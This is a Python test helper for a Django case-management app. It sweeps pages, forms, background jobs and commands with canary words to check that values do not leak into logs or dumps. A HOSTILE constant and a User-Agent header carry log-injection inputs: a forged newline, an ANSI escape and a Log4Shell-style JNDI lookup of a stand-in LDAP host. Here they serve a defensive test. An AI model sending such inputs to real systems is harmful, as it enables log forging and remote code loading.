"""Working with Rowan as many people would: pages, forms with faults, jobs, commands, errors."""

import io
import threading
from collections.abc import Callable, Iterator
from itertools import count
from unittest.mock import patch
from uuid import uuid4

import redis
from django.conf import settings
from django.core.management import call_command
from django.db import connections
from django.template.base import Template
from django.template.context import Context
from django.utils import timezone
from django.utils.safestring import SafeString

from jobs import locks, queue, registry, running
from tests.matrix.addresses import every_address, path_of
from tests.matrix.asking import OPENS, Asker
from tests.matrix.stage import Stage
from tests.matrix.test_matrix import rows
from tests.matrix.test_no_form_takes_more import forms_of
from tests.sweep.canaries import Canaries

# Between them they open every page that shows a record, and every form.
PEOPLE = (
    "IDVA, her case", "service manager", "administrator", "commissioner",
    "MARAC coordinator, host",
)  # fmt: skip
FILLED_IN = ("Some words here", "Written in a few words")
# What the page itself wrote into the form: nobody types there.
NO_ANSWERS = ("once", "version", "session")
HOSTILE = "/nothing/%0ALINE%20forged%1b[31m$%7Bjndi:ldap://x.example.org%7D/"


def everything(stage: Stage, canaries: Canaries) -> tuple[int, int]:
    """Do all that can be done; return how many pages showed a word, and how many failed."""
    connections["default"].force_debug_cursor = True
    try:
        shown = sum(_pages(Asker(stage.personas[one]), one, stage, canaries) for one in PEOPLE)
        failed = _errors(Asker(stage.personas[PEOPLE[0]]), stage)
        _forms(stage, canaries)
        _jobs()
        _commands()
    finally:
        connections["default"].force_debug_cursor = False
    return shown, failed


def _opened(column: str) -> Iterator[str]:
    matrix = rows()
    yield from (name for name in every_address() if matrix[name, "read"][column] == OPENS)


def _pages(asker: Asker, column: str, stage: Stage, canaries: Canaries) -> int:
    answers = (asker.ask("GET", path_of(name, stage)) for name in _opened(column))
    return sum(canaries.mark in answer.text for answer in answers)


def _errors(asker: Asker, stage: Stage) -> int:
    """Open every page of a person with its template failing: all that it shows is at hand then."""
    failed = 0
    for name in _opened(PEOPLE[0]):
        with patch.object(Template, "render", _failing_once()):
            failed += asker.ask("GET", path_of(name, stage)).status >= 500
    asker.client.get(HOSTILE, headers={"User-Agent": "${jndi:ldap://x.example.org} \x1b[31m"})
    return failed


def _failing_once() -> Callable[[Template, Context], SafeString]:
    """Return a way of rendering that fails for the page and works for what says so."""
    render, calls = Template.render, count()

    def failing(template: Template, context: Context) -> SafeString:
        if next(calls) == 0:
            raise RuntimeError("the template failed")
        return render(template, context)

    return failing


def _forms(stage: Stage, canaries: Canaries) -> None:
    """Send every form twice: with a word in each answer, then in each text alone."""
    askers = [(Asker(stage.personas[one]), one) for one in PEOPLE]
    # All are read before the first is sent: it may end what the next is about.
    forms = [(asker, form) for asker, one in askers for _, form, _ in forms_of(asker, stage, one)]
    for asker, form in forms:
        faulty, right = dict(form.data), dict(form.data)
        for name, values in form.data.items():
            if name not in NO_ANSWERS:
                faulty[name] = [canaries.word()]
            if values[0] in FILLED_IN:
                right[name] = [canaries.word()]
            # Twice the same is refused by the database: what was in the statement with it, a name
            # in clear among it, would be in the log of statements alone and in no dump.
            if name == "email":
                right[name] = [f"{uuid4().hex}@example.org"]
        for data in (faulty, right):
            asker.client.post(form.action, {**data, "once": [str(uuid4())]})


def _jobs() -> None:
    for task in registry.names():
        if task.startswith("probe."):
            continue
        job = queue.enqueue(task, organisation_id=None, arguments={}, by=None)
        with locks.session() as held:
            taken = running.take(job.id, held, now=timezone.now())
            if taken is not None:
                running.run(taken, held, stop=threading.Event())
    if settings.REDIS_URL:
        redis.Redis.from_url(settings.REDIS_URL).save()


def _commands() -> None:
    for name in ("check_classification", "audit_verify"):
        call_command(name, stdout=io.StringIO(), stderr=io.StringIO())
